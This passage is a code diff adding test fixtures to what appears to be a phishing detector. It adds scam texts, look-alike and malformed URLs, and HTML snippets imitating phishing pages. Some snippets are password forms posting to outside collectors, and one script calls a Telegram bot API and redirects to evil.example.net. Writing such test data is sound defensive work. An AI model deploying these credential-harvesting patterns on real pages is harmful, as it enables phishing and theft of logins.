@@ -24,11 +24,17 @@ TEXTS = (
     "Track it here: your package is held at customs, confirm your delivery address",
     "Income tax department notice: update your PAN card, penalty of court action follows",
     "Write to bob.smith@example.org or call +44 20 7946 0958 for the minutes of the meeting",
+    "Do not tell anyone in finance, skip the approval process and keep your verif1ed acc0unt ready",
+    "We noticed a sign-in from a new device in a new location. If this wasn't you, review this activity.",
+    "Your \u0430ccount at P\u0430ypal is fine, ver\u200bify nothing",
+    "Links: https://a.example.org/1 https://b.example.org/2, www.c.example.net/3 and d-site.example/4; see https://e.example.org/?q=(5).",
+    "Lost my wallet, I am in a meeting, can't talk right now, so please handle this discreetly",
 )
 URLS = (
     "http://paypal-secure-login.tk/verify/account.html?email=a@b.c", "https://www.google.com/search?q=1", "https://bit.ly/3xYz", "http://192.168.10.5/login", "https://user:pw@host.example.net/a",
     "https://a.b.c.d.example.org/x", "http://xn--pple-43d.com/", "https://gooogle.com/", "https://site.example.com:8443/a/b", "https://docs.python.org/3/library/urllib.html", "ftp://files.example.org/setup.exe",
     "https://example.com/out?url=https%3A%2F%2Fevil.example.net%2Fx&id=7", "https://my-bank-account-update.example.co.uk/a%20b%20c%20d%20e%20f%20g", "https://netflix.com.verify-user.xyz/", "mailto:someone@example.org", "https://shop.blogspot.com/2024/05/sale.html",
+    "https://averyveryverylongdomainname2024.example/", "https://cdn123456.example.org/a%2520b?x=" + "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0123456789ab", "https://www.example.org/" + "long/" * 30, "http://bad host.example/x", "http://[::1]/x",
 )
 PAGES = (
     "<form action='http://collect.example.net/p' method=post><input type=password name=pwd><input name=user></form>",
@@ -37,6 +43,12 @@ PAGES = (
     "<iframe src='https://other.example.org/f' style='display:none'></iframe><a href='#'>a</a><a href='#'>b</a>",
     "<script>eval(atob('x'));eval(unescape('%41'));document.addEventListener('contextmenu',function(e){e.preventDefault()})</script>",
     "<p>Your account has been locked. Enter your OTP below.</p><img src='https://www.paypal.com/logo.png'>",
+    "<p>Google Drive and Gmail: sign in</p><form action='https://formspree.io/f/x' method=GET><input type=password name=pass><input name=u></form>",
+    "<form action='javascript:go()'><input type=password name=pwd><input type=hidden name=chat_id></form>" + "<a href='#'>x</a><a href='javascript:void(0)'>y</a>" * 8,
+    "<script>document.onpaste=function(e){e.preventDefault()};fetch('https://api.telegram.org/bot1/sendMessage?chat_id=2');window.location='https://evil.example.net/x'</script><input type=password name=p>",
+    "<iframe src='https://frames.elsewhere.net/login' width=600></iframe><iframe width=0 src='/pixel'></iframe><input type=password name=q>",
+    "<p>Customer care and terms of use. OTP sent to your mobile.</p><input type=password id=pin>",
+    "<script>var a='\\x41\\x42\\x43\\x44\\x45\\x46\\x47\\x48\\x49\\x4a\\x4b\\x4c'</script><form action='/login'><input name='cardno'><input name=v></form><p>Username</p>",
 )
 MAILS = (
     "From: PayPal Service <service@paypal-help.xyz>\nReply-To: pay@else.example.org\nSubject: Re: your account\nAuthentication-Results: mx; spf=fail; dkim=none; dmarc=fail\n\n",
